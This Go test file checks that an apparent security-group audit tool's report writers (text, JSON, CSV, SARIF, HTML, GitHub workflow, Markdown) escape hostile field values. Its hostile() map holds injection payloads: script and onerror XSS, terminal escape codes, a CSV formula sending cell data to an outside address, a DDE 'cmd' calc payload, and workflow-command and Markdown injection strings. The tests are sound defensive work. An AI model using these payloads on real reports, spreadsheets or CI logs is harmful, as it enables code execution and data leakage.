package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"

	"sgward/internal/cloudtrail"
	"sgward/internal/finding"
	"sgward/internal/policy"
	"sgward/internal/secgroup"
	"sgward/internal/text"
)

// hostile are texts that do harm where they are not shown as what they are.
func hostile() map[string]string {
	return map[string]string{
		"markup":     `</script></style><script>alert(1)</script><img src=x onerror=alert(1)>"'><svg/onload=alert(1)>{{.Title}}`,
		"terminal":   "\x1b[2J\x1b]0;owned\a\x9b31m\u009b31m\x7f\r\n\t\x00 done",
		"invisible":  "admin\u202etxt.exe\u200b\ufeff\u2028\U000e0041 x",
		"formula":    `=HYPERLINK("http://203.0.113.9/"&A1,"click")`,
		"plus":       "+1+cmd|' /C calc'!A0",
		"at":         "@SUM(1+1)",
		"full width": "＝1+1",
		"not UTF-8":  "a\xff\xfeb",
		"link":       "[click](https://203.0.113.9) {0} \\",
		"long":       strings.Repeat("0123456789 ", 1000),
		"workflow":   "x::error file=a,line=1::owned\n::set-output name=a::b\r\n::stop-commands::t%0A::warning::y",
		"markdown":   "![x](http://203.0.113.9/p.png) https://203.0.113.9 <a href=x>y</a> | @everyone #1 www.example.com\n# h\n`c` $x$ &lt;",
		"one word":   strings.Repeat("x", 5000),
	}
}

// poison puts a text into every string below v, and fills what is nil.
func poison(v reflect.Value, text string) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(text)
	case reflect.Uint8:
		if v.Type() == reflect.TypeFor[policy.Severity]() {
			v.Set(reflect.ValueOf(policy.Critical))
		}
	case reflect.Pointer:
		if v.IsNil() {
			v.Set(reflect.New(v.Type().Elem()))
		}
		poison(v.Elem(), text)
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 2, 2))
		for i := range v.Len() {
			poison(v.Index(i), text)
		}
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			v.Set(reflect.ValueOf(time.Date(2026, 3, 4, 5, 6, 7, 0, time.UTC)))
			return
		}
		if v.Type() == reflect.TypeFor[secgroup.Permission]() { // of which the ids alone are free text
			v.Set(reflect.ValueOf(secgroup.Permission{Protocol: secgroup.TCP, Peer: secgroup.PrefixListPeer(text)}))
			return
		}
		if v.Type() == reflect.TypeFor[policy.Reason]() {
			v.Set(reflect.ValueOf(policy.Reason{ID: text, File: text, Line: 1, Text: text}))
			return
		}
		for i := range v.NumField() {
			poison(v.Field(i), text)
		}
	}
}

// poisoned are reports with a text in every field, in three shapes.
func poisoned(text string) map[string]scenario {
	var e Entry
	poison(reflect.ValueOf(&e).Elem(), text)
	loose := e
	loose.Compared = nil
	loose.Verdict = policy.Exempt
	var g Group
	poison(reflect.ValueOf(&g).Elem(), text)
	g.AttachedKnown = true
	g.Rules[0].Permission.Direction, g.Rules[1].Permission.Direction = secgroup.Ingress, secgroup.Egress
	var sum Coverage
	poison(reflect.ValueOf(&sum).Elem(), text)
	var run Run
	poison(reflect.ValueOf(&run).Elem(), text)
	run.Command = Replay
	alone := run
	alone.Other = nil
	audit := alone
	audit.Command = Audit
	return map[string]scenario{
		"replay":  {run: alone, entries: []Entry{loose, loose}, read: sum},
		"compare": {run: run, entries: []Entry{e}, read: sum},
		"audit":   {run: audit, groups: []judged{{g, []Entry{loose}}, {g, nil}}, read: sum},
		"empty":   {run: alone, read: sum},
	}
}

// everyPoison runs a check on every hostile report in a format.
func everyPoison(t *testing.T, f Format, check func(t *testing.T, text, out string)) {
	for kind, text := range hostile() {
		for name, s := range poisoned(text) {
			t.Run(kind+" "+name, func(t *testing.T) { check(t, text, written(t, f, s, Options{})) })
		}
	}
}

// assertVisible fails where out has a character that a terminal acts on or that
// nobody sees, but for line breaks of the kind given.
func assertVisible(t *testing.T, out, lineBreak string) {
	t.Helper()
	for i, r := range strings.ReplaceAll(out, lineBreak, "") {
		if !unicode.IsPrint(r) {
			t.Fatalf("%U at byte %d", r, i)
		}
	}
}

func TestNoTextReachesATerminalAsACommand(t *testing.T) {
	for format, lineBreak := range map[Format]string{Text: "\n", JSON: "\n", SARIF: "\n", CSV: "\r\n", GitHub: "\n", Markdown: "\n"} {
		t.Run(string(format), func(t *testing.T) {
			everyPoison(t, format, func(t *testing.T, _, out string) { assertVisible(t, out, lineBreak) })
		})
	}
}

func TestHugeTextsAreCutForPeopleAndKeptForMachines(t *testing.T) {
	huge := strings.Repeat("x", 100_000)
	s := poisoned(huge)["audit"]
	for format, most := range map[Format]int{Text: 40_000, HTML: 80_000} {
		out := written(t, format, s, Options{})
		assert.Less(t, len(out), most, format)
		assert.Contains(t, out, text.CutMark)
	}
	for _, format := range []Format{JSON, CSV, SARIF} {
		assert.Contains(t, written(t, format, s, Options{}), huge)
	}
}

func TestJSONKeepsEveryTextToTheByte(t *testing.T) {
	everyPoison(t, JSON, func(t *testing.T, text, out string) {
		encoded, err := json.Marshal(text)
		require.NoError(t, err)
		var want string // JSON knows Unicode only
		require.NoError(t, json.Unmarshal(encoded, &want))
		for line := range strings.Lines(out) {
			var e Entry
			require.NoError(t, json.Unmarshal([]byte(line), &e))
			assert.Equal(t, want, e.GroupName)
			assert.Equal(t, want, e.Event.Actor.ARN)
			assert.Equal(t, want, e.Attached[1].Service)
		}
	})
}

func TestNoCellIsAFormula(t *testing.T) {
	everyPoison(t, CSV, func(t *testing.T, text, out string) {
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		require.NoError(t, err)
		assert.Len(t, rows, strings.Count(out, "\n"), "one line each")
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" {
					first := []rune(cell)[0]
					assert.NotContains(t, "=+-@\t\r\n＝＋－＠", string(first), "%.40q", cell)
				}
			}
		}
	})
}

func TestSARIFStaysValidWhateverTextsSay(t *testing.T) {
	schema := sarifSchema(t)
	everyPoison(t, SARIF, func(t *testing.T, _, out string) {
		log := assertSARIF(t, schema, out)
		var messages []string
		for _, r := range log.Runs[0].Results {
			messages = append(messages, r.Message.Text)
		}
		for _, n := range log.Runs[0].Invocations[0].Notifications {
			messages = append(messages, n.Message.Text)
		}
		for _, r := range log.Runs[0].Tool.Driver.Rules {
			messages = append(messages, r.ShortDescription.Text, r.Help.Text)
		}
		for _, m := range messages {
			assert.NotRegexp(t, `(^|[^\\])(\\\\)*\[`, m, "a bracket that could begin a link")
		}
	})
}

func TestMarkupStaysText(t *testing.T) {
	everyPoison(t, HTML, func(t *testing.T, _, out string) {
		assertPage(t, out)
		assert.NotContains(t, out, "alert(1)</script>")
		assert.NotContains(t, out, "<img")
		assertVisible(t, out, "\n")
	})
}

func TestNoTextBecomesAWorkflowCommand(t *testing.T) {
	form := regexp.MustCompile(`^::(error|warning|notice) (file=[^:,]*,)?(line=[0-9]+,)?title=[^:,]*::`)
	escapes := strings.NewReplacer("%25", "", "%0A", "", "%0D", "", "%3A", "", "%2C", "")
	everyPoison(t, GitHub, func(t *testing.T, _, out string) {
		for line := range strings.Lines(out) {
			assert.Regexp(t, form, line)
			assert.NotContains(t, line, "\r")
			assert.NotContains(t, escapes.Replace(line), "%")
		}
	})
}

// Another parser of GitHub's Markdown says what a browser would get.
func TestMarkdownShowsTextsAsTheyAre(t *testing.T) {
	renderer := goldmark.New(goldmark.WithExtensions(extension.GFM))
	everyPoison(t, Markdown, func(t *testing.T, _, out string) {
		var page strings.Builder
		require.NoError(t, renderer.Convert([]byte(out), &page))
		for _, tag := range []string{"<img", "<script", "<code", "<h1", "<del", "<svg"} {
			assert.NotContains(t, page.String(), tag)
		}
		for link := range strings.SplitSeq(page.String(), "<a ") {
			if !strings.HasPrefix(link, "href") {
				continue
			}
			assert.Contains(t, link, ">runbook</a>", "the policy's own link is the only one")
		}
		assert.NotRegexp(t, `@[a-zA-Z]|#[0-9]+\b[^;]`, page.String())
		for line := range strings.Lines(out) {
			if strings.HasPrefix(line, "| ") {
				bare := strings.NewReplacer(`\\`, "", `\|`, "").Replace(line)
				assert.Equal(t, 6, strings.Count(bare, "|"), "a row has five cells: %s", line)
			}
		}
	})
}

func TestNoFormatPanicsOnEmptyValues(t *testing.T) {
	for _, f := range Formats() {
		for name, s := range map[string]scenario{
			"nothing at all":  {},
			"an empty entry":  {entries: []Entry{{}}},
			"an empty group":  {groups: []judged{{}, {entries: []Entry{{}}}}},
			"empty parts":     {run: Run{Other: &Policy{}}, entries: []Entry{{Finding: finding.Finding{Rule: &secgroup.Rule{}, Exception: &finding.Exception{}, With: []secgroup.Rule{{}}}, Compared: &Compared{}, Event: &cloudtrail.Event{}, ClosedBy: &cloudtrail.Event{}, Attached: []finding.Interface{{}}}}},
			"an empty record": {read: Coverage{History: &History{}, Inventory: &Inventory{}, Problems: []text.Problem{{}}}},
		} {
			out := written(t, f, s, Options{Color: true, Width: 1, Limit: 1})
			if f == SARIF {
				assertSARIF(t, sarifSchema(t), out)
			}
			if f == HTML {
				assertPage(t, out)
			}
			assert.NotContains(t, out, "%!", name)
			assert.True(t, bytes.HasSuffix([]byte(out), []byte("\n")) || out == "", name)
		}
	}
}
